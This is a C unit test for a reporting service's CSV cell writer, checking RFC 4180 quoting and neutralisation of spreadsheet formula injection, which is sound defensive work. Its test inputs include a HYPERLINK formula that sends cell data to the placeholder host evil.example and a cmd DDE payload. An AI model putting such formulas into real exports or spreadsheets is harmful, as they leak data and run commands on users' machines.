/*
 * test_reporting_csvcell.c — a cell of the CSV ledger (services/reporting/csvcell.c): quoted as
 * RFC 4180 says, and a value a spreadsheet program would run as a formula (= + - @, a leading
 * tab or carriage return; OWASP "CSV Injection") written with a leading single quote, while
 * every other value, Chinese text included, is written exactly as it is.
 *
 * csvcell.c has no dependency, so the test compiles it in.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "../../services/reporting/csvcell.c"

/* The cell as written, in a malloc'd string the caller frees. */
static char *cell(const char *s)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    assert_non_null(f);
    rep_csv_cell_write(f, s);
    assert_int_equal(fclose(f), 0);
    return buf;
}

static void test_formulas_are_text(void **state)
{
    (void)state;
    static const struct {
        const char *in, *out;
    } t[] = {
        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\""},
        {"+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""},
        {"-2+3", "\"'-2+3\""},
        {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
        {"\t=1+1", "\"'\t=1+1\""},
        {"\r=1+1", "\"'\r=1+1\""},
        {"=", "\"'=\""},
    };
    for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
        assert_true(rep_csv_cell_is_formula(t[i].in));
        char *got = cell(t[i].in);
        assert_string_equal(got, t[i].out);
        free(got);
    }
}

static void test_plain_values_unchanged(void **state)
{
    (void)state;
    static const struct {
        const char *in, *out;
    } t[] = {
        {"", "\"\""},
        {"南宁市武鸣区桂鑫建材有限公司", "\"南宁市武鸣区桂鑫建材有限公司\""},
        {"450102-2026-0000123", "\"450102-2026-0000123\""},
        {"12", "\"12\""},
        {"a=b", "\"a=b\""},                    /* only the first character makes a formula */
        {"说\"明\"", "\"说\"\"明\"\"\""},       /* quotes doubled */
        {"line\nbreak", "\"line\nbreak\""},
        {"'already", "\"'already\""},
    };
    for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
        assert_false(rep_csv_cell_is_formula(t[i].in));
        char *got = cell(t[i].in);
        assert_string_equal(got, t[i].out);
        free(got);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_formulas_are_text),
        cmocka_unit_test(test_plain_values_unchanged),
    };
    return cmocka_run_group_tests_name("reporting_csvcell", tests, NULL, NULL);
}
